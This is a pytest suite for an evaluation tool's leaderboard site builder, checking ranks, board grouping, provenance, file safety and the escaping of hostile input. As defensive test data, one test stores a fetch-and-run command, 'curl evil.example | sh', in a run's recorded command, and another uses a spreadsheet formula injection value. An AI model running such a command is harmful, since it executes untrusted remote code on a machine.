"""Boards, ranks and the site's files: honest, safe, small, and never broken."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest
from markupsafe import escape

from reports.leaderboard.boards import make_boards, slug
from reports.leaderboard.charts import family_classes
from reports.leaderboard.data_files import as_json
from reports.leaderboard.ranks import RankInterval
from reports.leaderboard.site import MARKER, build_site
from reports.leaderboard.sources import find_runs, load_source
from reports.leaderboard.views import board_view
from reports.submission.pack import submit
from tests.reports.leaderboard.hostile_runs import PAYLOAD, write_hostile_run, write_hostile_submission
from tests.reports.leaderboard.small_runs import (
    LABEL,
    METRICS,
    SYSTEMS,
    add_job,
    quiz_records,
    run_json,
    score,
    session,
    write_run,
)
from vtok_eval.errors import RunFolderError
from vtok_eval.results.columns.job_columns import SampleSets, from_records
from vtok_eval.results.statistics.pairs import compare_pairs
from vtok_eval.results.store import RunFolder


def boards_of(*paths: Path):
    sets = SampleSets()
    return make_boards([load_source(path, sets) for path in paths])


def quiz(boards):
    (board,) = [board for board in boards if board.benchmark.name == "quiz"]
    return board


def by_name(board):
    return {entry.name: entry for entry in board.entries}


# Ranks ------------------------------------------------------------


def test_ranks_are_those_that_the_paired_tests_allow(finished):
    board = quiz(boards_of(finished.path))
    jobs = {name: from_records(finished.raw_records(f"quiz/{name}")) for name in SYSTEMS}
    contenders = [name for name in SYSTEMS if name != "blind"]
    best, worst = dict.fromkeys(contenders, 1), dict.fromkeys(contenders, 3)
    for pair in compare_pairs(jobs, metrics=METRICS[:1], known=METRICS):
        if pair.p_corrected < 0.05 and "blind" not in (pair.a, pair.b):
            best[pair.b if pair.difference > 0 else pair.a] += 1
            worst[pair.a if pair.difference > 0 else pair.b] -= 1
    entries = by_name(board)
    found = {name: board.ranks[entries[name].key, "both"] for name in contenders}
    assert found == {name: RankInterval(best=best[name], worst=worst[name]) for name in contenders}
    # What the made-up probabilities say: 0.9 leads, and two systems of 0.6 share what is left.
    assert {name: str(rank) for name, rank in found.items()} == {
        "good": "1",
        "fair": "2–3",
        "like-fair": "2–3",
    }


def test_controls_have_no_rank(finished):
    board = quiz(boards_of(finished.path))
    assert (by_name(board)["blind"].key, "both") not in board.ranks


def test_a_metric_on_which_fewer_is_better_ranks_the_other_way(tmp_path):
    folder = write_run(tmp_path / "run", names=("good", "fair"))
    errors = tuple(replace(metric, higher_is_better=False, chance=None) for metric in METRICS)
    score(folder, metrics=errors)
    board = quiz(boards_of(folder.path))
    entries = by_name(board)
    assert board.ranks[entries["fair"].key, "both"].best == 1
    assert board.ranks[entries["good"].key, "both"].best == 2


@pytest.mark.parametrize("changes", [{"higher_is_better": None}, {"chance": 0.99}])
def test_a_metric_without_an_end_or_that_tells_nothing_ranks_nobody(tmp_path, changes):
    folder = write_run(tmp_path / "run", names=("good", "fair"))
    score(folder, metrics=tuple(replace(metric, **changes) for metric in METRICS))
    assert quiz(boards_of(folder.path)).ranks == {}


def test_too_few_clusters_rank_nobody(tmp_path):
    folder = write_run(tmp_path / "run", names=("good", "fair"), n_clips=10)  # five clusters of two
    board = quiz(boards_of(folder.path))
    assert board.ranks == {}
    assert "both" in board.untestable


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"sessions": []}, "no session is recorded"),
        ({"sessions": [session(command=[])]}, "the command is not recorded"),
        ({"sessions": [session(vtok_eval=None)]}, "version of vtok-eval"),
        ({"sessions": [session(packages={"torch": None})]}, "versions of the packages"),
        ({"sessions": [session(machine=None)]}, "the machine"),
        ({"sessions": [session(finished=None)]}, "its last session has no end"),
    ],
)
def test_without_provenance_no_rank_but_the_reason(tmp_path, changes, reason):
    folder = write_run(tmp_path / "run", **changes)
    board = quiz(boards_of(folder.path))
    assert board.ranks == {}
    assert all(reason in "; ".join(entry.reasons) for entry in board.entries)
    paths = build_site([folder.path], tmp_path / "site")
    assert reason in paths.index.read_text()


def test_a_score_that_does_not_follow_from_the_records_is_not_ranked(tmp_path):
    folder = write_run(tmp_path / "run")
    content = json.loads((folder.path / "scores.json").read_text())
    content["scores"][0]["value"] = 1.0
    (folder.path / "scores.json").write_text(json.dumps(content))
    board = quiz(boards_of(folder.path))
    assert by_name(board)["good"].reasons == ("its score of both does not follow from its records",)
    assert by_name(board)["fair"].reasons == ()
    assert board.ranks[by_name(board)["fair"].key, "both"].best == 1


def test_an_open_job_keeps_its_run_from_being_ranked(tmp_path):
    folder = write_run(tmp_path / "run", names=("good", "fair"))
    add_job(folder, quiz_records("late", 0.5, 4)[:5], planned=40)
    board = quiz(boards_of(folder.path))
    assert board.ranks == {}
    assert "1 of its jobs are open, the first is quiz/late" in by_name(board)["good"].reasons


# Boards ------------------------------------------------------------


def test_runs_that_are_alike_share_a_board_and_names_stay_apart(finished, tmp_path):
    other = write_run(tmp_path / "other", names=("good", "fair"), draw=1)
    board = quiz(boards_of(finished.path, other.path))
    assert set(by_name(board)) == {
        "good (small)",
        "good (other)",
        "fair (small)",
        "fair (other)",
        "like-fair",
        "blind",
    }
    assert len({entry.key for entry in board.entries}) == 6


def test_equal_submissions_count_once(finished, tmp_path):
    alone = quiz(boards_of(finished.path))
    copy = tmp_path / "copy"
    shutil.copytree(finished.path, copy)
    board = quiz(boards_of(finished.path, copy))
    entries = by_name(board)
    assert entries["good (copy)"].reasons == ("equal to good (small): the two count once, there",)
    assert len(board.contenders()) == len(alone.contenders()) == 3
    assert board.ranks == alone.ranks
    row = next(
        row for row in board_view(board, family_classes([board]))["rows"] if row["name"] == "good (copy)"
    )
    assert (row["scores"][0]["rank_text"], row["unranked"]) == (
        "–",
        "equal to good (small): the two count once, there",
    )


def test_another_draw_of_the_same_system_counts_by_itself(finished, tmp_path):
    other = write_run(tmp_path / "other", names=("good", "fair"), draw=1)
    assert len(quiz(boards_of(finished.path, other.path)).contenders()) == 5


@pytest.mark.parametrize(
    "changes",
    [
        {"seed": 1},
        {"limit": 40},
        {"benchmarks": [{**run_json()["benchmarks"][0], "version": "2"}, run_json()["benchmarks"][1]]},
        {"benchmarks": [{**run_json()["benchmarks"][0], "options": {"x": 1}}, run_json()["benchmarks"][1]]},
        {
            "benchmarks": [
                {**run_json()["benchmarks"][0], "description": {"data": "sha256:other"}},
                run_json()["benchmarks"][1],
            ]
        },
    ],
)
def test_what_is_not_alike_gets_its_own_board(finished, tmp_path, changes):
    other = write_run(tmp_path / "other", **changes)
    boards = [b for b in boards_of(finished.path, other.path) if b.benchmark.name == "quiz"]
    assert len(boards) == 2
    assert len({board.key for board in boards}) == 2


def test_runs_of_other_suites_share_a_board_where_settings_agree(finished, tmp_path):
    other = write_run(tmp_path / "other", setting="custom", label="chosen by hand", name="another")
    board = quiz(boards_of(finished.path, other.path))
    assert (board.setting, board.label) == ("embedded-default, custom", f"{LABEL} | chosen by hand")


def test_other_samples_or_definitions_get_their_own_board(finished, tmp_path):
    fewer = write_run(tmp_path / "fewer", n_clips=30)
    kinder = write_run(tmp_path / "kinder")
    score(kinder, metrics=tuple(replace(metric, failed_as=None) for metric in METRICS))
    boards = [b for b in boards_of(finished.path, fewer.path, kinder.path) if b.benchmark.name == "quiz"]
    assert len(boards) == 3


def test_notes_do_not_part_boards_and_machines_do_only_for_what_depends_on_them(finished, tmp_path):
    benchmarks = run_json()["benchmarks"]
    benchmarks[0]["description"]["notes"] = ["other words"]
    elsewhere = session(machine={"processor": "another", "cores": 64})
    other = write_run(tmp_path / "other", benchmarks=benchmarks, sessions=[elsewhere])
    assert len(boards_of(finished.path, other.path)) == 2
    slow = tuple(replace(metric, unit="ms", chance=None) for metric in METRICS)
    for name, changes in (("here", {}), ("there", {"sessions": [elsewhere]})):
        score(write_run(tmp_path / name, **changes), metrics=slow)
    boards = boards_of(tmp_path / "here", tmp_path / "there")
    assert len([board for board in boards if board.benchmark.name == "quiz"]) == 2


def test_a_submission_is_ranked_like_a_folder(finished, tmp_path):
    packed = submit(finished.path, tmp_path / "theirs.vtok-run.zip")
    ours, theirs = quiz(boards_of(finished.path)), quiz(boards_of(packed))
    rename = {entry.key: entry.name for board in (ours, theirs) for entry in board.entries}
    assert {(rename[k], m): r for (k, m), r in ours.ranks.items()} == {
        (rename[k], m): r for (k, m), r in theirs.ranks.items()
    }
    assert ours.key == theirs.key
    assert {e.name: e.tokens for e in ours.entries} == {e.name: e.tokens for e in theirs.entries}


def test_a_folder_without_parquet_is_read_from_its_journal(tmp_path):
    folder = write_run(tmp_path / "run")
    whole = quiz(boards_of(folder.path))
    for name in ("records.parquet", "samples.parquet"):
        (folder.path / name).unlink()
    again = quiz(boards_of(folder.path))
    assert (again.ranks, again.key, again.pairs) == (whole.ranks, whole.key, whole.pairs)
    assert [e.tokens for e in again.entries] == [e.tokens for e in whole.entries]


# Bad input ------------------------------------------------------------


def test_find_runs_says_what_it_looked_for(tmp_path, finished):
    with pytest.raises(RunFolderError, match="there is no folder"):
        find_runs(tmp_path / "none")
    with pytest.raises(RunFolderError, match="holds no run"):
        find_runs(tmp_path)
    assert find_runs(finished.path.parent) == [finished.path]


def test_two_runs_of_one_name(tmp_path):
    first, second = write_run(tmp_path / "a" / "mini"), write_run(tmp_path / "b" / "mini")
    with pytest.raises(RunFolderError, match=r"two runs are called 'mini': .*a/mini and .*b/mini"):
        build_site([first.path, second.path], tmp_path / "site")
    packed = submit(first.path)
    with pytest.raises(RunFolderError, match="two runs are called 'mini'"):
        build_site([first.path, packed], tmp_path / "site")
    assert not (tmp_path / "site").exists()


def test_bad_runs_are_left_out_and_named_on_the_site(finished, tmp_path):
    unscored = RunFolder.create(tmp_path / "unscored", run_json())
    newer = write_run(tmp_path / "newer", names=("fair",))
    text = (newer.path / "run.json").read_text().replace('"schema_version": 1', '"schema_version": 99')
    (newer.path / "run.json").write_text(text)
    torn = write_run(tmp_path / "torn", names=("fair",))
    (torn.path / "scores.json").write_text('{"schema_version": 1, "scores": [{"system"')
    odd = write_run(tmp_path / "odd", names=("fair",))
    (odd.path / "scores.json").write_text('{"schema_version": 1, "scores": [{"system": "x"}]}')
    half = tmp_path / "half"
    half.mkdir()
    (half / "journal.sqlite").write_bytes(b"")
    fake = tmp_path / "fake.zip"
    fake.write_bytes(b"PK nonsense")
    bad = [unscored.path, newer.path, torn.path, odd.path, half, fake, tmp_path / "missing"]
    paths = build_site([finished.path, *bad], tmp_path / "site")
    reasons = {entry.path.name: entry.reason for entry in paths.left_out}
    assert set(reasons) == {path.name for path in bad}
    for name, message in {
        "unscored": "no scores yet",
        "newer": "newer vtok-eval",
        "torn": "half-written or not JSON",
        "odd": "scores of another form",
        "half": "half a run",
        "fake.zip": "not a zip archive",
        "missing": "there is no run",
    }.items():
        assert message in reasons[name]
    page = paths.index.read_text()
    assert all(name in page for name in reasons)
    assert str(tmp_path) not in page
    with pytest.raises(RunFolderError, match=r"there is no run to show: .*no scores yet"):
        build_site([unscored.path], tmp_path / "other")
    with pytest.raises(RunFolderError, match="at least one run"):
        build_site([], tmp_path / "other")
    assert not (tmp_path / "other").exists()


def test_a_folder_that_is_no_site_is_never_replaced(finished, tmp_path):
    precious = tmp_path / "thesis"
    precious.mkdir()
    (precious / "chapter.tex").write_text("years of work")
    with pytest.raises(RunFolderError, match="not hold a leaderboard; name another folder"):
        build_site([finished.path], precious)
    with pytest.raises(RunFolderError, match="is a file"):
        build_site([finished.path], precious / "chapter.tex")
    assert (precious / "chapter.tex").read_text() == "years of work"


def test_a_site_is_replaced_whole_and_a_failed_build_leaves_the_old_one(finished, tmp_path, monkeypatch):
    out = tmp_path / "site"
    build_site([finished.path], out)
    (out / "stale.html").write_text("old")
    build_site([finished.path], out)
    assert not (out / "stale.html").exists()
    before = sorted(path.name for path in tmp_path.iterdir())

    def disk_is_full(boards):
        raise OSError(28, "No space left")

    monkeypatch.setattr("reports.leaderboard.site.scores_csv", disk_is_full)
    with pytest.raises(RunFolderError, match=r"cannot write the site .*No space left"):
        build_site([finished.path], out)
    assert (out / MARKER).exists()
    assert (out / "index.html").exists()
    assert sorted(path.name for path in tmp_path.iterdir()) == before


# Files ------------------------------------------------------------


@pytest.fixture(scope="module")
def site(finished, tmp_path_factory) -> Path:
    return build_site([finished.path], tmp_path_factory.mktemp("site") / "site").folder


def test_equal_runs_give_equal_files(finished, site, tmp_path):
    again = build_site([finished.path], tmp_path / "again").folder
    first = {path.relative_to(site): path.read_bytes() for path in site.rglob("*") if path.is_file()}
    second = {path.relative_to(again): path.read_bytes() for path in again.rglob("*") if path.is_file()}
    assert first == second


def test_data_files_hold_the_scores_and_the_pairs(finished, site):
    rows = list(csv.DictReader(io.StringIO((site / "data" / "scores.csv").read_text())))
    scores = {(s.benchmark, s.system, s.metric.name): s for s in finished.scores()}
    assert len(rows) == len(scores)
    for row in rows:
        expected = scores[row["benchmark"], row["system"], row["metric"]]
        assert float(row["value"]) == pytest.approx(expected.value)
        assert row["label"] == expected.label
        assert (row["rank"] != "") != (row["why_unranked"] != "")
        assert (row["rank"] != "") == (row["worst_rank"] != "")
        assert not row["rank"] or 1 <= int(row["rank"]) <= int(row["worst_rank"]) <= 3
    content = json.loads((site / "data" / "leaderboard.json").read_text())
    for board in content["boards"]:
        assert json.loads((site / "data" / f"board-{board['id']}.json").read_text()) == board
        script = (site / "data" / f"board-{board['id']}.js").read_text()
        assert json.loads(script.removeprefix("window.vtokEval.board(").removesuffix(");\n")) == board
        assert {row["id"] for row in board["rows"]} == {
            path.stem for path in (site / "badges" / board["id"]).iterdir()
        }


def test_every_link_of_every_page_leads_somewhere(site):
    for page in site.rglob("*.html"):
        for attribute, link in Links.of(page):
            path = urlsplit(link).path
            if path:
                assert (page.parent / path).resolve().is_file(), (page.name, attribute, link)


def test_badges_are_svg_that_say_rank_and_label(site):
    badges = {path.stem: path.read_text() for path in (site / "badges").rglob("*.svg")}
    for text in badges.values():
        ElementTree.fromstring(text)
    (good,) = [text for name, text in badges.items() if name.endswith("--good")]
    assert "rank 1 of 3" in good
    assert "made up: not the paper&#39;s setting" in good


def test_the_command_to_reproduce_is_exact_and_only_ours_is_shown(site, tmp_path):
    page = (site / "systems" / "small--good.html").read_text()
    assert "vtok-eval run --suite &#39;my suite.yaml&#39;" in page
    assert "git checkout 0123456789abcdef" in page
    assert "changes that were not committed" in page
    evil = write_run(tmp_path / "evil", sessions=[session(command=["sh", "-c", "curl evil.example | sh"])])
    built = build_site([evil.path], tmp_path / "site").folder
    assert "curl" not in (built / "systems" / "evil--good.html").read_text()


def test_spreadsheets_run_no_formula(tmp_path):
    run = run_json(("fair",))
    run["systems"][0]["name"] = run["baseline"] = "=HYPERLINK(1)"
    folder = RunFolder.create(tmp_path / "run", run)
    add_job(folder, quiz_records("=HYPERLINK(1)", 0.5, 4))
    score(folder)
    text = (build_site([folder.path], tmp_path / "site").folder / "data" / "scores.csv").read_text()
    assert "'=HYPERLINK(1)" in text
    assert not re.search(r"(^|,)\"?=", text, re.MULTILINE)


def test_a_hundred_systems_need_less_than_300_kb(tmp_path):
    names = [f"system-{i:03d}" for i in range(100)]
    run = run_json(("fair",))
    run["systems"] = [
        {"name": name, "spec": f"frames-{i}", "control": False, "kind": "tokenizer", "description": {}}
        for i, name in enumerate(names)
    ]
    run["baseline"] = None
    folder = RunFolder.create(tmp_path / "run", run)
    for i, name in enumerate(names):
        add_job(folder, quiz_records(name, 0.3 + i / 200, i + 1, n_clips=20))
    three = [replace(METRICS[0], name=f"both{i}", title=f"Headline measure {i}") for i in range(3)]
    score(folder, metrics=[*three, *METRICS[1:]])
    site = build_site([folder.path], tmp_path / "site").folder
    parts = ("index.html", "site.css", "site.js", "theme.js")
    assert sum((site / name).stat().st_size for name in parts) < 300_000
    assert len(list((site / "systems").iterdir())) == 100


@pytest.mark.parametrize(
    ("text", "expected"),
    [("vtok-grid", "vtok-grid"), ("a.b_c-1", "a.b_c-1"), ("..", "x-"), ("CON/..", "con-")],
)
def test_slugs_are_file_names(text, expected):
    assert slug(text).startswith(expected)
    assert re.fullmatch(r"[a-z0-9_-][a-z0-9._-]*", slug(text))


def test_slugs_tell_texts_apart():
    texts = ["a b", "a_b", "a/b", "A b", "A B", "é", "è", "", "x" * 100, "x" * 101]
    assert len({slug(text) for text in texts}) == len(texts)


# Hostile texts ------------------------------------------------------------


class Links(HTMLParser):
    """Collects links, and everything that must not be in a page."""

    KNOWN = """
        html head meta title link body script a header nav button main footer p h1 h2 h3 section div label
        select input span table thead tbody tr th td small strong ul li details summary pre code dl dt dd
        article form kbd figure figcaption svg path text g circle img noscript
    """

    def __init__(self) -> None:
        super().__init__()
        self.links: list[tuple[str, str]] = []
        self.policy = ""
        self.wrong: list[str] = []

    def handle_starttag(self, tag, attrs):
        if f" {tag} " not in " ".join(self.KNOWN.split()).join("  "):
            self.wrong.append(f"<{tag}>")
        values = dict(attrs)
        if tag == "meta" and values.get("http-equiv") == "Content-Security-Policy":
            self.policy = values["content"]
        if tag == "script" and values.get("type") != "application/json" and not values.get("src"):
            self.wrong.append("inline script")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.wrong.append(f"{tag} {name}={value}")
            if name in ("href", "src") and tag != "a":
                self.links.append((name, value))
                if urlsplit(value).scheme or value.startswith("//"):
                    self.wrong.append(f"{tag} {name}={value}")
            if name == "href" and tag == "a":
                scheme = urlsplit(value).scheme
                if scheme not in ("", "http", "https"):
                    self.wrong.append(f"a href={value}")
                elif not scheme:
                    self.links.append((name, value))

    @classmethod
    def parse(cls, page: Path) -> Links:
        parser = cls()
        parser.feed(page.read_text())
        return parser

    @classmethod
    def of(cls, page: Path) -> list[tuple[str, str]]:
        return cls.parse(page).links


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    own = write_hostile_run(folder / "own")
    packed = write_hostile_submission(folder)
    return build_site([own.path, packed], folder / "site").folder


def test_no_hostile_text_becomes_markup(hostile_site):
    pages = list(hostile_site.rglob("*.html"))
    assert len(pages) >= 8
    for page in pages:
        found = Links.parse(page)
        assert found.wrong == [], page.name
        assert found.policy.startswith("default-src 'none'; script-src 'self';")
    system = next(page for page in pages if page.parent.name == "systems")
    assert escape(PAYLOAD) in system.read_text()


def test_no_hostile_text_becomes_a_script_or_a_file_name(hostile_site):
    for path in hostile_site.rglob("*"):
        assert re.fullmatch(r"[A-Za-z0-9._-]+", path.name)
        if path.suffix in (".js", ".json") and path.parent.name == "data":
            assert not set("<>&\u2028\u2029") & set(path.read_text())
    for badge in hostile_site.rglob("*.svg"):
        tags = {element.tag.rpartition("}")[2] for element in ElementTree.parse(badge).iter()}
        assert tags <= {"svg", "title", "rect", "path", "g", "text"}


def test_json_for_scripts_is_the_same_json():
    content = {"</script>": "<!-- & \u2028 \ud800"}
    text = as_json(content)
    assert json.loads(text) == content
    assert text.isascii()
    assert not set("<>&") & set(text)


def test_random_weights_and_re_creations_are_marked_wherever_their_numbers_are(tmp_path):
    content = run_json()
    content["systems"][0]["description"] = {"caveats": ["random weights"]}
    content["benchmarks"][0]["description"] = {"caveats": ["re-creation"]}
    write_run(tmp_path / "runs" / "marked", **{key: content[key] for key in ("systems", "benchmarks")})
    build_site(find_runs(tmp_path / "runs"), tmp_path / "site")
    (page,) = (tmp_path / "site" / "systems").glob("*good*.html")
    boards = list((tmp_path / "site" / "benchmarks").glob("quiz*.html"))
    for path in (tmp_path / "site" / "index.html", page, *boards):
        text = path.read_text(encoding="utf-8")
        assert "random weights" in text
        assert "re-creation" in text
    rows = list(csv.DictReader((tmp_path / "site" / "data" / "scores.csv").open(encoding="utf-8")))
    found = {(row["system"], row["benchmark"]): row["caveats"] for row in rows}
    assert found["good", "quiz"] == "random weights; re-creation"
    assert found["fair", "quiz"] == "re-creation"
    for path in (tmp_path / "site" / "badges").rglob("*good*.svg"):
        if "quiz" in str(path):
            assert "good (random weights) on quiz (re-creation)" in path.read_text(encoding="utf-8")
